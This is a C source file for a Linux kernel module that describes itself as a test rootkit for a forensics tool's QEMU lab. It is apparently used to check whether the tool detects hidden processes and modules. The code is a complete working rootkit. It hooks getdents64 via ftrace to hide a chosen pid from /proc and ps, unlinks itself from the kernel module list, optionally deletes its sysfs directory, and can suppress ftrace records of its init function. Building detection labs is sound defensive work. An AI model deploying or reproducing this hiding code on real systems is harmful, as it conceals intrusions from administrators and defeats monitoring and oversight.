// SPDX-License-Identifier: GPL-2.0
// A TEST rootkit for irsnap's kernel lab (tests/kernel-lab, docs/kernel-lab.md). It is built only
// against the lab's Debian kernel headers and loaded only inside the lab's throw-away QEMU guest.
//
// What it does, the way public kernel rootkits (Diamorphine, Reptile) do it:
//   1. hooks the getdents64 system call through ftrace: an ftrace_ops with IPMODIFY on
//      __x64_sys_getdents64 redirects every call to hp_getdents64, which calls the real function
//      and removes the directory entry named after `pid` from what a listing of procfs returns,
//      so `ls /proc` and `ps` no longer show that process;
//   2. unlinks itself from the kernel's module list (list_del of THIS_MODULE->list), so
//      /proc/modules, lsmod and the module symbols of /proc/kallsyms no longer name it;
//   3. with hide_sysfs=1, also removes its /sys/module/hide_pid directory (kobject_del);
//   4. built with -DHIDE_PID_NOTRACE_INIT, leaves no ftrace record of its init function.
// It can never be unloaded (no exit function, and the module list no longer holds it): the lab
// powers the guest off instead.
//
// The hook itself is ../common/ftrace_redirect.h, shared with hide_tcp.
#include <linux/file.h>
#include <linux/fs.h>
#include <linux/ftrace.h>
#include <linux/kernel.h>
#include <linux/magic.h>
#include <linux/module.h>
#include <linux/slab.h>
#include <linux/uaccess.h>
#include <linux/dirent.h>  // after the others: it uses u64 without including types.h

#include "ftrace_redirect.h"

MODULE_LICENSE("GPL");  // ftrace and kprobe registration are GPL-only symbols
MODULE_DESCRIPTION("irsnap kernel lab: test rootkit hiding a pid from /proc and itself");

static int pid = -1;
module_param(pid, int, 0);
MODULE_PARM_DESC(pid, "the pid whose /proc entry getdents64 hides");
static int hide_sysfs;
module_param(hide_sysfs, int, 0);
MODULE_PARM_DESC(hide_sysfs, "1: also remove /sys/module/hide_pid (kobject_del)");

static char hidden_name[16];
typedef long (*syscall_fn)(const struct pt_regs *);
static syscall_fn real_getdents64;

// Calls the real getdents64, then rewrites the caller's buffer without the hidden entry. Only
// listings of a procfs directory are filtered, so a file named like the pid elsewhere stays.
static long hp_getdents64(const struct pt_regs *regs)
{
	struct linux_dirent64 __user *user_buf = (void __user *)regs->si;
	long total = real_getdents64(regs);
	struct file *dir;
	bool is_proc;
	char *buf;
	long off = 0;

	if (total <= 0)
		return total;
	dir = fget((unsigned int)regs->di);
	if (!dir)
		return total;
	is_proc = file_inode(dir)->i_sb->s_magic == PROC_SUPER_MAGIC;
	fput(dir);
	if (!is_proc)
		return total;
	buf = kvmalloc(total, GFP_KERNEL);
	if (!buf)
		return total;
	if (copy_from_user(buf, user_buf, total)) {
		kvfree(buf);
		return total;
	}
	while (off < total) {
		struct linux_dirent64 *d = (struct linux_dirent64 *)(buf + off);
		unsigned short len = d->d_reclen;

		if (len == 0 || off + len > total)
			break;  // malformed: leave the rest as the kernel wrote it
		if (strcmp(d->d_name, hidden_name) == 0) {
			memmove(buf + off, buf + off + len, total - off - len);
			total -= len;
			continue;
		}
		off += len;
	}
	if (copy_to_user(user_buf, buf, total))
		total = -EFAULT;
	kvfree(buf);
	return total;
}

FTRACE_REDIRECT(hp_hook, hp_getdents64);

// Built with KCFLAGS=-DHIDE_PID_NOTRACE_INIT (scenario module-hide-notrace) the init function has
// no ftrace call site, so ftrace keeps no record of it once init memory is freed: no line of
// /proc/kallsyms names the module any more (docs/kernel-lab.md).
#ifdef HIDE_PID_NOTRACE_INIT
#define HP_INIT __init notrace
#else
#define HP_INIT __init
#endif

static int HP_INIT hide_pid_init(void)
{
	int err;

	if (pid <= 0)
		return -EINVAL;
	snprintf(hidden_name, sizeof(hidden_name), "%d", pid);
	real_getdents64 = (syscall_fn)ftrace_redirect_install(&hp_hook, "__x64_sys_getdents64", &err);
	if (!real_getdents64)
		return err;
	// Printed before hiding, so the guest's console log shows what was loaded.
	pr_info("hide_pid: hiding pid %d, hide_sysfs=%d\n", pid, hide_sysfs);
	list_del(&THIS_MODULE->list);
	if (hide_sysfs)
		kobject_del(&THIS_MODULE->mkobj.kobj);
	return 0;
}

module_init(hide_pid_init);
